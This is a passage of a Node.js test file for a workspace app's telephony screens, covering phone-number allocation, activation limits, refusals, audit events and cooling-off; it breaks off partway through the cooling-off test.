// Telephony: the phone number pool of a site (list, counts,
// filters by state and holder, allocate / deallocate / activate /
// deactivate, bulk allocation, CSV export) and the occupier's Telephony
// tab (its numbers, the main number, "Telephony extensions X/Y",
// activation refused beyond the voice allocation). Every refusal leaves
// the database exactly as it was. The pool is put back as it was found
// when the file ends, so that later files see the seed's numbers.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import {
	ADMIN, EASTWIND_ADMIN, OCC_ADMIN, OCC_USER, STAFF, TODAY, assertHtml, assertRedirect, db, dbValue,
	occupierId, operatorId, q, rnd, signedIn, siteId, tableRows, text, titleOf,
} from './lib.mjs';

const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/* TODAY + n days as YYYY-MM-DD. */
function day(n) {
	const d = new Date(`${TODAY}T00:00:00Z`);
	d.setUTCDate(d.getUTCDate() + n);
	return d.toISOString().slice(0, 10);
}

/* YYYY-MM-DD as the app writes it on screen: "16 Feb 2026". */
function long(iso) {
	const [y, m, d] = iso.split('-').map(Number);
	return `${d} ${MON[m - 1]} ${y}`;
}

const COOLOFF_DAYS = 90;	// TENANTRY_COOLOFF_DAYS default (tests/run.sh does not set it)

let admin, staff, NW, cw, sd, harbour, acme, fjord, blueFinch, cobalt, zephyr, snapshot;
const created = [];	// occupiers this file creates (removed in after())

const sitePath = (site, qs = '') => `/sites/${site}/telephony${qs}`;
const tabPath = (occ, site) => `/occupiers/${occ}/sites/${site}/telephony`;

/* ---- database helpers ---------------------------------------------------- */

const RAW = 'id, state, occupier_id, operator_held, is_main, activated_at, deactivated_at, cooloff_until, version';

/* Everything a refusal must leave as it was: every number and the audit trail. */
function dbState() {
	return JSON.stringify([db(`SELECT ${RAW}, number, site_id FROM phone_number ORDER BY id`),
		dbValue("SELECT COUNT(*) FROM audit_event WHERE entity = 'phone_number'")]);
}

function phone(id) {
	const [r] = db(`SELECT number, state, COALESCE(occupier_id, 0), operator_held, is_main,
		COALESCE(activated_at, '-'), COALESCE(deactivated_at, '-'), COALESCE(cooloff_until, '-'), version
		FROM phone_number WHERE id = ${id}`);
	return { number: r[0], state: r[1], occ: Number(r[2]), operatorHeld: r[3] === '1', main: r[4] === '1',
		activated: r[5], deactivated: r[6], until: r[7], version: Number(r[8]) };
}

function numberId(number) {
	return Number(dbValue(`SELECT id FROM phone_number WHERE operator_id = ${NW} AND number = ${q(number)}`));
}

/* k available numbers of a site, from the end of the pool (the start is
 * where automatic allocation takes numbers from). */
function freeNumbers(site, k) {
	return db(`SELECT id, number FROM phone_number WHERE site_id = ${site} AND state = 'available'
		ORDER BY number DESC LIMIT ${k}`).map(([id, number]) => ({ id: Number(id), number }));
}

/* Numbers of a site by effective state on TODAY, as the screen counts them. */
function counts(site) {
	const c = { available: 0, reserved: 0, active: 0, cooling_off: 0 };
	for (const [s, n] of db(`SELECT CASE WHEN state = 'cooling_off' AND (cooloff_until IS NULL
		OR cooloff_until <= ${q(TODAY)}) THEN 'available' ELSE state END AS s, COUNT(*)
		FROM phone_number WHERE site_id = ${site} GROUP BY s`))
		c[s] = Number(n);
	return c;
}

function lastAudit() {
	const [r] = db(`SELECT entity, entity_id, action, COALESCE(occupier_id, 0), site_id, user_id, old_value, new_value
		FROM audit_event WHERE entity = 'phone_number' ORDER BY id DESC LIMIT 1`);
	return { entity: r[0], id: Number(r[1]), action: r[2], occ: Number(r[3]), site: Number(r[4]), user: Number(r[5]),
		old: r[6], new: r[7] };
}

/* ---- page helpers ---------------------------------------------------------- */

/* The occupier picker's search: [value, label] of each option offered. */
async function pickOptions(client, qs) {
	const r = await client.get(`/occupiers/search${qs}`);
	assert.equal(r.status, 200, qs);
	return [...r.body.matchAll(/<option value="([^"]*)">([^<]*)<\/option>/g)].map((m) => [m[1], m[2]]);
}

/* Rows of the numbers table: { number, main, state, holder, details }. */
function siteRows(html) {
	return tableRows(html).map(([n, state, holder, details]) => ({
		number: n.replace(/ Main$/, ''), main: / Main$/.test(n), state, holder, details,
	}));
}

/* Rows of the occupier's tab: { number, main, state, since }. */
function tabRows(html) {
	return tableRows(html).map(([n, state, since]) => ({ number: n.replace(/ Main$/, ''), main: / Main$/.test(n),
		state, since }));
}

function errorsOf(html) {
	const m = /<div class="errors"[^>]*>([\s\S]*?)<\/div>/.exec(html);
	return m ? [...m[1].matchAll(/<li>([\s\S]*?)<\/li>/g)].map((x) => text(x[1])) : [];
}

function flashOf(html) {
	const m = /<p class="flash" role="status">([\s\S]*?)<\/p>/.exec(html);
	return m ? text(m[1]) : null;
}

/* A POST that must be refused: 422, the message on the page, nothing changed. */
async function refused(c, path, fields, message, what) {
	const before = dbState();
	const r = await c.post(path, fields);
	assertHtml(r, 422, what);
	assert.deepEqual(errorsOf(r.body), [message], what);
	assert.match(r.text, /Nothing was changed:/, what);
	assert.equal(dbState(), before, `${what}: the database is unchanged`);
	return r;
}

/* A POST that must be 404 (or another status), changing nothing. */
async function refusedWith(status, c, path, fields, what) {
	const before = dbState();
	const r = await c.post(path, fields);
	assert.equal(r.status, status, `${what}: ${r.status} ${r.text.slice(0, 200)}`);
	assert.equal(dbState(), before, `${what}: the database is unchanged`);
	return r;
}

async function newOccupier(name) {
	await admin.get('/occupiers/new');
	const r = await admin.post('/occupiers/new', { name, version: '0' });
	assertRedirect(r, /^\/occupiers\/\d+\?done=created$/, `create ${name}`);
	const id = Number(r.location.match(/^\/occupiers\/(\d+)/)[1]);
	created.push(id);
	return id;
}

async function newContract(occ, site) {
	const reference = `TEL-${rnd(4)}`;
	await admin.get(`/occupiers/${occ}/sites/${site}/contracts/new`);
	const r = await admin.post(`/occupiers/${occ}/sites/${site}/contracts/new`,
		{ version: '0', reference, start_date: day(-10), end_date: '' });
	assertRedirect(r, `/occupiers/${occ}/sites/${site}/contracts?done=created`, `contract ${reference}`);
}

/* A small RFC 4180 reader: records of fields (the test's own, to check the export). */
function parseCsv(s) {
	const out = [];
	let rec = [], f = '', i = 0, quoted = false;
	while (i < s.length) {
		const ch = s[i];
		if (quoted) {
			if (ch === '"' && s[i + 1] === '"') { f += '"'; i += 2; continue; }
			if (ch === '"') { quoted = false; i++; continue; }
			f += ch; i++; continue;
		}
		if (ch === '"') { quoted = true; i++; continue; }
		if (ch === ',') { rec.push(f); f = ''; i++; continue; }
		if (ch === '\r' && s[i + 1] === '\n') { rec.push(f); out.push(rec); rec = []; f = ''; i += 2; continue; }
		f += ch; i++;
	}
	assert.equal(f, '', 'the export ends with CRLF');
	assert.equal(rec.length, 0, 'the export ends with CRLF');
	return out;
}

before(async () => {
	admin = await signedIn(ADMIN);
	staff = await signedIn(STAFF);
	NW = operatorId('Northwind Workspaces');
	cw = siteId('Canary Wharf');
	sd = siteId('Shoreditch');
	harbour = siteId('Harbour House');
	acme = occupierId('Acme Analytics Ltd');
	fjord = occupierId('Fjord Media');
	blueFinch = occupierId('Blue Finch Design');
	cobalt = occupierId('Cobalt Legal LLP');
	zephyr = occupierId('Zephyr Secret Holdings');
	snapshot = db(`SELECT ${RAW} FROM phone_number ORDER BY id`);
});

after(() => {
	const v = (x) => (x === null ? 'NULL' : q(x));
	db(snapshot.map(([id, state, occ, held, main, act, deact, until, version]) =>
		`UPDATE phone_number SET state = ${q(state)}, occupier_id = ${v(occ)}, operator_held = ${held},
		is_main = ${main}, activated_at = ${v(act)}, deactivated_at = ${v(deact)}, cooloff_until = ${v(until)},
		version = ${version} WHERE id = ${id}`).join(';\n'));
	for (const id of created)
		db(`DELETE FROM contract WHERE occupier_id = ${id}; DELETE FROM occupier_site_plan WHERE occupier_id = ${id};
			DELETE FROM occupier WHERE id = ${id}`);
});

/* ---- the seed's pools ------------------------------------------------------ */

test('the seed: 60 numbers per site from the drama ranges, Acme 3 and Fjord Media 2 active', () => {
	for (const [site, first, last] of [[cw, '+44 20 7946 0100', '+44 20 7946 0159'],
		[sd, '+44 20 7946 0200', '+44 20 7946 0259'], [harbour, '+44 117 496 0000', '+44 117 496 0059']]) {
		assert.deepEqual(db(`SELECT COUNT(*), MIN(number), MAX(number) FROM phone_number WHERE site_id = ${site}`)[0],
			['60', first, last], `pool of site ${site}`);
	}
	const rows = (occ) => db(`SELECT number, state, is_main FROM phone_number WHERE occupier_id = ${occ}
		AND site_id = ${cw} ORDER BY number`);
	assert.deepEqual(rows(acme), [['+44 20 7946 0100', 'active', '1'], ['+44 20 7946 0101', 'active', '0'],
		['+44 20 7946 0102', 'active', '0']]);
	assert.deepEqual(rows(fjord), [['+44 20 7946 0103', 'active', '1'], ['+44 20 7946 0104', 'active', '0']]);
	for (const site of [cw, sd])
		assert.deepEqual(db(`SELECT number FROM phone_number WHERE site_id = ${site} AND operator_held = 1
			AND state = 'reserved' ORDER BY number`).map((r) => r[0]).length, 2, `operator's numbers at ${site}`);
	const [cool] = db(`SELECT number, deactivated_at, cooloff_until FROM phone_number
		WHERE site_id = ${cw} AND state = 'cooling_off'`);
	assert.equal(cool[0], '+44 20 7946 0157');
	assert.ok(cool[2] > TODAY, 'still cooling off');
});

test("the site's Telephony screen: counts by state, every number with state, holder and details", async () => {
	const r = await admin.get(sitePath(cw));
	assertHtml(r, 200, 'Canary Wharf telephony');
	assert.equal(titleOf(r.body), 'Telephony · Canary Wharf · Tenantry');
	assert.match(r.body, /<a href="\/sites" aria-current="page">Sites<\/a>/, 'menu marks Sites');
	assert.match(r.body, new RegExp(`<a href="/sites/${cw}">Canary Wharf</a>`), 'crumb back to the site');
	const c = counts(cw);
	const total = c.available + c.reserved + c.active + c.cooling_off;
	assert.equal(total, 60);
	assert.match(r.text, new RegExp(`60 phone numbers · ${c.available} available · ${c.reserved} reserved · ` +
		`${c.active} active · ${c.cooling_off} cooling off`));
	const rows = siteRows(r.body);
	assert.equal(rows.length, 60);
	assert.deepEqual(rows.map((x) => x.number), [...rows.map((x) => x.number)].sort(), 'in number order');
	const by = Object.fromEntries(rows.map((x) => [x.number, x]));
	assert.deepEqual(by['+44 20 7946 0100'], { number: '+44 20 7946 0100', main: true, state: 'Active',
		holder: 'Acme Analytics Ltd', details: `Active since ${long(day(-400))}` });
	assert.deepEqual(by['+44 20 7946 0101'], { number: '+44 20 7946 0101', main: false, state: 'Active',
		holder: 'Acme Analytics Ltd', details: `Active since ${long(day(-400))}` });
	assert.deepEqual(by['+44 20 7946 0103'], { number: '+44 20 7946 0103', main: true, state: 'Active',
		holder: 'Fjord Media', details: `Active since ${long(day(-360))}` });
	const until = dbValue(`SELECT cooloff_until FROM phone_number WHERE number = '+44 20 7946 0157'`);
	assert.deepEqual(by['+44 20 7946 0157'], { number: '+44 20 7946 0157', main: false, state: 'Cooling off',
		holder: 'None', details: `Available again on ${long(until)}` });
	assert.deepEqual(by['+44 20 7946 0158'], { number: '+44 20 7946 0158', main: false, state: 'Reserved',
		holder: 'Operator', details: '' });
	const free = freeNumbers(cw, 1)[0];
	assert.deepEqual(by[free.number], { number: free.number, main: false, state: 'Available', holder: 'None',
		details: '' });
	// Holders link to their Telephony tab.
	assert.match(r.body, new RegExp(`<a href="/occupiers/${acme}/sites/${cw}/telephony">Acme Analytics Ltd</a>`));
	// Row actions are small POST forms; allocation offers the operator and the
	// occupiers with a contract at the site (Cobalt Legal is at Shoreditch only).
	const form = new RegExp(`<input type="hidden" name="number" value="${free.id}"><label class="sr" for="to-${free.id}">Allocate ${free.number.replace(/\+/g, '\\+')} to</label> ` +
		`<input id="to-${free.id}" name="to_occ" value="" [^>]*data-pick="/occupiers/search\\?site=${cw}"[^>]*>` +
		'<datalist id="to-\\d+-list"></datalist> <button type="submit" class="small" name="to" value="occupier">Allocate<span class="sr"> [^<]*</span></button> ' +
		'<button type="submit" class="small secondary" name="to" value="operator">').exec(r.body);
	assert.ok(form, 'an allocation form on an available number: an occupier picker and the operator');
	const options = await pickOptions(admin, `?site=${cw}&q=`);
	assert.deepEqual(options, [], 'an empty search offers nothing');
	const name = (id) => dbValue(`SELECT name FROM occupier WHERE id = ${id}`);
	const offered = async (id) => (await pickOptions(admin, `?site=${cw}&q=${encodeURIComponent(name(id))}`))
		.some(([, label]) => label.startsWith(name(id)));
	assert.ok(await offered(acme), 'Acme has a contract at Canary Wharf');
	assert.ok(await offered(blueFinch), 'a future contract counts');
	assert.ok(!(await offered(cobalt)), 'no contract at Canary Wharf: not offered');
	assert.match(r.body, /<input type="hidden" name="op" value="deactivate"><input type="hidden" name="number" value="\d+"><button type="submit" class="small">Deactivate<span class="sr"> \+44 20 7946 0100<\/span><\/button>/);
	assert.match(r.body, new RegExp(`<input type="hidden" name="op" value="deallocate"><input type="hidden" name="number" value="${numberId('+44 20 7946 0158')}">`));
	assert.ok(!r.body.includes(`name="op" value="deallocate"><input type="hidden" name="number" value="${numberId('+44 20 7946 0100')}"`),
		'an active number offers no deallocation');
	assert.match(r.body, new RegExp(`<a class="button" href="/sites/${cw}/telephony.csv">Export CSV</a>`));
	// Shoreditch: its own pool; staff may see it too.
	const s = await staff.get(sitePath(sd));
	assertHtml(s, 200, 'Shoreditch telephony');
	const srows = siteRows(s.body);
	assert.equal(srows.length, 60);
	assert.equal(srows[0].number, '+44 20 7946 0200');
	assert.deepEqual(srows.filter((x) => x.holder === 'Operator').map((x) => x.number),
		['+44 20 7946 0258', '+44 20 7946 0259']);
	assert.ok(!s.body.includes('+44 20 7946 01') && !s.body.includes('+44 117'), 'no other pool shows');
});

test('filters by state and holder are GET parameters that work without JavaScript', async () => {
	const get = async (qs) => {
		const r = await admin.get(sitePath(cw, qs));
		assertHtml(r, 200, qs);
		return r;
	};
	let r = await get('?state=active');
	assert.match(r.body, new RegExp(`<form class="toolbar filters" method="get" action="/sites/${cw}/telephony">`));
	assert.match(r.body, /<option value="active" selected>Active<\/option>/);
	assert.match(r.body, /<button type="submit">Apply<\/button>/);
	let rows = siteRows(r.body);
	assert.equal(rows.length, counts(cw).active);
	assert.ok(rows.every((x) => x.state === 'Active'));
	assert.deepEqual(rows.filter((x) => ['Acme Analytics Ltd', 'Fjord Media'].includes(x.holder)).map((x) => x.number),
		['+44 20 7946 0100', '+44 20 7946 0101', '+44 20 7946 0102', '+44 20 7946 0103', '+44 20 7946 0104']);
	assert.match(r.body, new RegExp(`href="/sites/${cw}/telephony.csv\\?state=active"`), 'the export follows the filters');

	r = await get('?state=cooling_off');
	assert.deepEqual(siteRows(r.body).map((x) => [x.number, x.state]), db(`SELECT number, 'Cooling off'
		FROM phone_number WHERE site_id = ${cw} AND state = 'cooling_off' AND cooloff_until > ${q(TODAY)} ORDER BY number`));

	r = await get('?holder=operator');
	assert.match(r.body, /<option value="operator" selected>Operator<\/option>/);
	assert.deepEqual(siteRows(r.body).map((x) => [x.number, x.state, x.holder]),
		[['+44 20 7946 0158', 'Reserved', 'Operator'], ['+44 20 7946 0159', 'Reserved', 'Operator']]);

	r = await get(`?holder=${acme}`);
	assert.match(r.body, /<option value="occupier" selected>The occupier:<\/option>/);
	assert.match(r.body, /<input id="f-holder_occ" name="holder_occ" value="Acme Analytics Ltd"/);
	assert.deepEqual(siteRows(r.body).map((x) => x.number), ['+44 20 7946 0100', '+44 20 7946 0101', '+44 20 7946 0102']);

	r = await get('?holder=none');
	rows = siteRows(r.body);
	assert.equal(rows.length, Number(dbValue(`SELECT COUNT(*) FROM phone_number WHERE site_id = ${cw}
		AND occupier_id IS NULL AND operator_held = 0`)));
	assert.ok(rows.every((x) => x.holder === 'None' && ['Available', 'Cooling off'].includes(x.state)));

	r = await get(`?state=available&holder=none`);
	assert.equal(siteRows(r.body).length, counts(cw).available);

	// Combined filters that match nothing: the empty state, with the way back.
	r = await get(`?state=reserved&holder=${acme}`);
	assert.deepEqual(siteRows(r.body), []);
	assert.match(r.text, /It is empty here: no number at Canary Wharf matches these filters\. Show all numbers/);
	assert.match(r.body, new RegExp(`<a href="/sites/${cw}/telephony">Show all numbers</a>`));

	// Unknown values mean "all"; another operator's occupier matches nothing and shows nothing.
	r = await get('?state=bogus&holder=%3Cscript%3E');
	assert.equal(siteRows(r.body).length, 60);
	assert.match(r.body, /<option value="all">All states<\/option>/);
	r = await get(`?holder=${zephyr}`);
	assert.deepEqual(siteRows(r.body), []);
	assert.ok(!r.body.includes('Zephyr'), 'no other operator data');
});

test("the occupier's Telephony tab: Acme's 3 active numbers, the main number and Telephony extensions 3/3", async () => {
	const r = await admin.get(tabPath(acme, cw));
	assertHtml(r, 200, 'Acme telephony tab');
	assert.equal(titleOf(r.body), 'Telephony · Tenantry');
	assert.match(r.body, new RegExp(`<a href="/occupiers/${acme}/sites/${cw}/telephony" aria-current="page">Telephony</a>`));
	assert.match(r.body, /<h2>Telephony at Canary Wharf<\/h2>/);
	assert.match(r.text, /Telephony extensions 3\/3/);
	assert.match(r.text, /Main number \+44 20 7946 0100/);
	assert.match(r.text, /Every extension is in use: add a Voice line in Services before activating another number\./);
	assert.deepEqual(tabRows(r.body), [
		{ number: '+44 20 7946 0100', main: true, state: 'Active', since: long(day(-400)) },
		{ number: '+44 20 7946 0101', main: false, state: 'Active', since: long(day(-400)) },
		{ number: '+44 20 7946 0102', main: false, state: 'Active', since: long(day(-400)) },
	]);
	// Active numbers can be deactivated; the non-main ones made the main one.
	assert.equal([...r.body.matchAll(/name="op" value="deactivate"/g)].length, 3);
	assert.equal([...r.body.matchAll(/name="op" value="set_main"/g)].length, 2);
	assert.match(r.body, new RegExp(`<a class="button" href="/sites/${cw}/telephony\\?holder=${acme}">All numbers at Canary Wharf</a>`));

	const f = await admin.get(tabPath(fjord, cw));
	assertHtml(f, 200, 'Fjord telephony tab');
	assert.match(f.text, /Telephony extensions 2\/2/);
	assert.match(f.text, /Main number \+44 20 7946 0103/);
	assert.deepEqual(tabRows(f.body).map((x) => [x.number, x.main]), [['+44 20 7946 0103', true], ['+44 20 7946 0104', false]]);

	// Blue Finch's scheduled voice lines: the save that added them took
	// their numbers (0105 main), as it does for a first voice service.
	const bf = await admin.get(tabPath(blueFinch, cw));
	assert.match(bf.text, /Telephony extensions 2\/2/);
	assert.deepEqual(tabRows(bf.body).map((x) => [x.number, x.main]), [['+44 20 7946 0105', true], ['+44 20 7946 0106', false]]);
	// Empty states: voice lines but no number (as a database from before
	// numbers were kept holds them: Blue Finch's taken back by SQL for this
	// request, then restored); no contract at the site.
	const held = db(`SELECT id, state, is_main, activated_at FROM phone_number WHERE occupier_id = ${blueFinch}`);
	assert.equal(held.length, 2);
	db(`UPDATE phone_number SET state = 'available', occupier_id = NULL, is_main = 0, activated_at = NULL
		WHERE occupier_id = ${blueFinch}`);
	let b;
	try {
		b = await admin.get(tabPath(blueFinch, cw));
	} finally {
		for (const [id, state, main, since] of held)
			db(`UPDATE phone_number SET state = ${q(state)}, occupier_id = ${blueFinch}, is_main = ${main},
				activated_at = ${q(since)} WHERE id = ${id}`);
	}
	assertHtml(b, 200, 'Blue Finch');
	assert.match(b.text, /Telephony extensions 0\/2/);
	assert.match(b.text, /Main number none/);
	assert.match(b.text, /It is empty here: Blue Finch Design has no phone numbers at Canary Wharf\./);
	assert.match(b.body, new RegExp(`<a href="/sites/${cw}/telephony\\?holder=${blueFinch}">the site's Telephony screen</a>`));
	const a = await admin.get(tabPath(acme, sd));
	assertHtml(a, 200, 'Acme at Shoreditch');
	assert.match(a.text, /Telephony extensions 0\/0/);
	assert.match(a.text, /It is empty here: Acme Analytics Ltd has no phone numbers at Shoreditch\./);
});

test('allocate to an occupier and to the operator, deallocate; refusals change nothing', async () => {
	const [n1, n2, n3] = freeNumbers(cw, 3);
	const audits = () => Number(dbValue("SELECT COUNT(*) FROM audit_event WHERE entity = 'phone_number'"));
	let before = audits();
	let r = await admin.post(sitePath(cw), { op: 'allocate', number: n1.id, to: acme });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'allocate to Acme');
	assert.deepEqual(phone(n1.id), { ...phone(n1.id), state: 'reserved', occ: acme, operatorHeld: false, main: false,
		activated: '-', deactivated: '-', until: '-' });
	assert.equal(audits(), before + 1);
	const adminId = Number(dbValue(`SELECT id FROM app_user WHERE email = ${q(ADMIN)}`));
	assert.deepEqual(lastAudit(), { entity: 'phone_number', id: n1.id, action: 'allocate', occ: acme, site: cw,
		user: adminId, old: `number=${n1.number}\nstate=Available\nholder=none`,
		new: `number=${n1.number}\nstate=Reserved\nholder=Acme Analytics Ltd` });
	const page = await admin.get(r.location);
	assertHtml(page, 200, 'after allocation');
	assert.equal(flashOf(page.body), 'Changes saved.');
	const row = siteRows(page.body).find((x) => x.number === n1.number);
	assert.deepEqual([row.state, row.holder], ['Reserved', 'Acme Analytics Ltd']);
	assert.match(page.body, new RegExp(`name="op" value="activate"><input type="hidden" name="number" value="${n1.id}">`));

	// To the operator, from a filtered list: back to the same filters.
	r = await admin.post(sitePath(cw), { state: 'available', holder: 'none', op: 'allocate', number: n2.id, to: 'operator' });
	assertRedirect(r, `/sites/${cw}/telephony?state=available&holder=none&done=saved`, 'allocate to the operator');
	assert.equal(phone(n2.id).state, 'reserved');
	assert.equal(phone(n2.id).operatorHeld, true);
	assert.equal(phone(n2.id).occ, 0);

	// Refusals: 422 with the reason, nothing written.
	await refused(admin, sitePath(cw), { op: 'allocate', number: n1.id, to: fjord },
		`${n1.number}: It is already allocated; deallocate it first.`, 'allocate a reserved number');
	await refused(admin, sitePath(cw), { op: 'allocate', number: n3.id, to: cobalt },
		'A number can be allocated only to an occupier with a contract at this site.', 'no contract here');
	await refused(admin, sitePath(cw), { op: 'allocate', number: n3.id },
		'Choose who gets the number: the operator or an occupier with a contract at this site.', 'nobody chosen');
	await refused(admin, sitePath(cw), { op: 'deallocate', number: numberId('+44 20 7946 0101') },
		'+44 20 7946 0101: An active number cannot be deallocated; deactivate it first.', 'deallocate an active number');
	await refused(admin, sitePath(cw), { op: 'deallocate', number: n3.id },
		`${n3.number}: It is not allocated.`, 'deallocate an available number');
	await refused(admin, sitePath(cw), { op: 'activate', number: n2.id },
		`${n2.number}: It is reserved for the operator; only a number allocated to an occupier can be activated.`,
		"activate the operator's number");
	await refused(admin, sitePath(cw), { op: 'activate', number: n3.id },
		`${n3.number}: It is not allocated; allocate it to an occupier first.`, 'activate an available number');
	await refused(admin, sitePath(cw), { op: 'deactivate', number: n1.id, confirm: '1' },
		`${n1.number}: It is reserved, not active; only an active number can be deactivated.`, 'deactivate a reserved number');
	const x = await refused(admin, sitePath(cw), { state: 'reserved', holder: 'all', op: 'deallocate',
		number: numberId('+44 20 7946 0100') }, '+44 20 7946 0100: An active number cannot be deallocated; deactivate it first.',
	'refused from a filtered list');
	assert.match(x.body, /<option value="reserved" selected>Reserved<\/option>/, 'the refusal keeps the filters');

	// Not found: another site's number, another operator's, a missing one,
	// a malformed one, another operator's occupier as the holder.
	const sdNumber = freeNumbers(sd, 1)[0];
	const ewNumber = Number(dbValue(`SELECT MIN(id) FROM phone_number WHERE site_id = ${harbour}`));
	const maxId = Number(dbValue('SELECT MAX(id) FROM phone_number'));
	for (const [fields, what] of [
		[{ op: 'allocate', number: sdNumber.id, to: 'operator' }, 'a Shoreditch number at Canary Wharf'],
		[{ op: 'allocate', number: ewNumber, to: 'operator' }, "Eastwind's number"],
		[{ op: 'deallocate', number: maxId + 1 }, 'a missing number'],
		[{ op: 'deallocate', number: 'abc' }, 'a malformed number'],
		[{ op: 'allocate', number: n3.id, to: zephyr }, "Eastwind's occupier"],
	])
		assertHtml(await refusedWith(404, admin, sitePath(cw), fields, what), 404, what);
	assertHtml(await refusedWith(400, admin, sitePath(cw), { op: 'explode', number: n3.id }, 'unknown op'), 400);
	assertHtml(await refusedWith(400, admin, sitePath(cw), { op: 'set_main', number: n3.id }, 'set_main on the site'), 400);

	// Deallocate: back to available, holder gone.
	before = audits();
	r = await admin.post(sitePath(cw), { op: 'deallocate', number: n1.id });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'deallocate');
	assert.deepEqual([phone(n1.id).state, phone(n1.id).occ], ['available', 0]);
	assert.equal(lastAudit().action, 'deallocate');
	assert.equal(lastAudit().occ, acme, "the event is in Acme's history");
	r = await admin.post(sitePath(cw), { op: 'deallocate', number: n2.id });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'deallocate the operator number');
	assert.deepEqual([phone(n2.id).state, phone(n2.id).operatorHeld], ['available', false]);
	assert.equal(audits(), before + 2);
});

test('activation is refused beyond the voice allocation with the fraction; deactivation frees an extension', async () => {
	const [n1] = freeNumbers(cw, 1);
	const id100 = numberId('+44 20 7946 0100'), id102 = numberId('+44 20 7946 0102');
	let r = await admin.post(sitePath(cw), { op: 'allocate', number: n1.id, to: acme });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'allocate to Acme');

	// Acme is at 3/3: activation refused on the tab and on the site screen.
	const msg = 'Telephony extensions 3/3: add a Voice line before activating another number';
	r = await refused(admin, tabPath(acme, cw), { op: 'activate', number: n1.id }, msg, 'activate a fourth number (tab)');
	assert.match(r.text, /Telephony extensions 3\/3/, 'the tab is shown again');
	assert.deepEqual(tabRows(r.body).map((x) => [x.number, x.state]), [['+44 20 7946 0100', 'Active'],
		['+44 20 7946 0101', 'Active'], ['+44 20 7946 0102', 'Active'], [n1.number, 'Reserved']]);
	await refused(admin, sitePath(cw), { op: 'activate', number: n1.id }, msg, 'activate a fourth number (site)');
	// Refusals of the state machine on the tab.
	await refused(admin, tabPath(acme, cw), { op: 'deactivate', number: n1.id, confirm: '1' },
		`${n1.number}: It is reserved, not active; only an active number can be deactivated.`, 'deactivate reserved (tab)');
	await refused(admin, tabPath(acme, cw), { op: 'set_main', number: n1.id },
		`${n1.number}: Only an active number can be the main number.`, 'set a reserved number as main');
	// Another occupier's number, or a number of another site, is not found on this tab.
	await refusedWith(404, admin, tabPath(fjord, cw), { op: 'activate', number: n1.id }, "Acme's number on Fjord's tab");
	await refusedWith(404, admin, tabPath(fjord, cw), { op: 'deactivate', number: id100 }, "Acme's number on Fjord's tab");
	await refusedWith(404, admin, tabPath(acme, sd), { op: 'deactivate', number: id100 }, 'a Canary Wharf number at Shoreditch');
	await refusedWith(400, admin, tabPath(acme, cw), { op: 'allocate', number: n1.id }, 'allocation is not a tab action');

	// Deactivate a number: it leaves Acme and cools off; 2/3.
	r = await admin.post(tabPath(acme, cw), { op: 'deactivate', number: id102, confirm: '1' });
	assertRedirect(r, `/occupiers/${acme}/sites/${cw}/telephony?done=saved`, 'deactivate');
	assert.deepEqual(phone(id102), { ...phone(id102), state: 'cooling_off', occ: 0, main: false,
		deactivated: TODAY, until: day(COOLOFF_DAYS) });
	let t = await admin.get(r.location);
	assert.equal(flashOf(t.body), 'Changes saved.');
	assert.match(t.text, /Telephony extensions 2\/3/);
	assert.ok(!tabRows(t.body).some((x) => x.number === '+44 20 7946 0102'), 'no longer on the tab');
	// The Services tab counts the same numerator.
	const s = await admin.get(`/occupiers/${acme}/sites/${cw}/services`);
	assert.match(s.text, /Telephony extensions 2\/3/);

	// Now the reserved number can be activated (from the site screen this time).
	r = await admin.post(sitePath(cw), { op: 'activate', number: n1.id });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'activate within the allocation');
	assert.deepEqual(phone(n1.id), { ...phone(n1.id), state: 'active', occ: acme, main: false, activated: TODAY });
	assert.deepEqual([lastAudit().action, lastAudit().occ], ['activate', acme]);
	t = await admin.get(tabPath(acme, cw));
	assert.match(t.text, /Telephony extensions 3\/3/);
	assert.deepEqual(tabRows(t.body).map((x) => [x.number, x.state, x.since]), [['+44 20 7946 0100', 'Active', long(day(-400))],
		['+44 20 7946 0101', 'Active', long(day(-400))], [n1.number, 'Active', long(TODAY)]]);

	// Set as main: one main number at a time.
	r = await admin.post(tabPath(acme, cw), { op: 'set_main', number: n1.id });
	assertRedirect(r, `/occupiers/${acme}/sites/${cw}/telephony?done=saved`, 'set as main');
	assert.equal(phone(n1.id).main, true);
	assert.equal(phone(id100).main, false);
	assert.equal(lastAudit().action, 'set_main');
	t = await admin.get(tabPath(acme, cw));
	assert.match(t.text, new RegExp(`Main number \\${n1.number}`));
	assert.equal(tabRows(t.body)[0].number, n1.number, 'the main number first');
	// Deactivating the main number hands "main" to the next active number.
	r = await admin.post(tabPath(acme, cw), { op: 'deactivate', number: n1.id, confirm: '1' });
	assertRedirect(r, `/occupiers/${acme}/sites/${cw}/telephony?done=saved`, 'deactivate the main number');
	assert.equal(phone(n1.id).state, 'cooling_off');
	assert.equal(phone(id100).main, true);
	assert.equal(Number(dbValue(`SELECT COUNT(*) FROM phone_number WHERE occupier_id = ${acme} AND site_id = ${cw}
		AND is_main = 1`)), 1);
});

test('cooling off: a deactivated number waits, then is available again by date', async () => {
	const id104 = numberId('+44 20 7946 0104');
	let r = await admin.post(sitePath(cw), { op: 'deactivate', number: id104, confirm: '1' });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'deactivate from the site screen');
	assert.deepEqual([phone(id104).state, phone(id104).occ, phone(id104).until], ['cooling_off', 0, day(COOLOFF_DAYS)]);
	r = await admin.get(sitePath(cw, '?state=cooling_off'));
	assert.deepEqual(siteRows(r.body).find((x) => x.number === '+44 20 7946 0104'), { number: '+44 20 7946 0104',
		main: false, state: 'Cooling off', holder: 'None', details: `Available again on ${long(day(COOLOFF_DAYS))}` });
	assert.ok(!/name="number" value="\d+"><label class="sr" for="to-/.test(r.body.split('+44 20 7946 0104')[1].split('</tr>')[0]),
		'no allocation form while cooling off');
	await refused(admin, sitePath(cw), { op: 'allocate', number: id104, to: fjord },
		'+44 20 7946 0104: It is cooling off after deactivation; it can be allocated again when the cooling-off period ends.',
		'allocate while cooling off');
	await refused(admin, sitePath(cw), { op: 'activate', number: id104 },
